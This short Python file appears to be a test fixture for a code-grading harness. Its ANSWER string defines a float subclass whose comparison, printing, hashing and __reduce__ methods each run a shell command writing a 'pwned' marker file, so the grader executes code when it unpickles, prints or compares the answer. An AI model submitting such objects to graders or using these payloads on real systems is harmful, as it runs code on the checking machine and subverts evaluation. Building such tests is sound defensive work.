"""Returned: objects that run code where they are unpickled, printed or compared."""

ANSWER = r"""
import os


class Loaded(float):
    def act(self, *_):
        os.system("echo pwned > /tmp/pwned-228")
        return True

    __repr__ = __str__ = __eq__ = __array__ = __float__ = __hash__ = act

    def __reduce__(self):
        return os.system, ("echo pwned > /tmp/pwned-228",)


def total(values):
    return np.array([Loaded(0.0), Loaded(1.0)], dtype=object)
"""
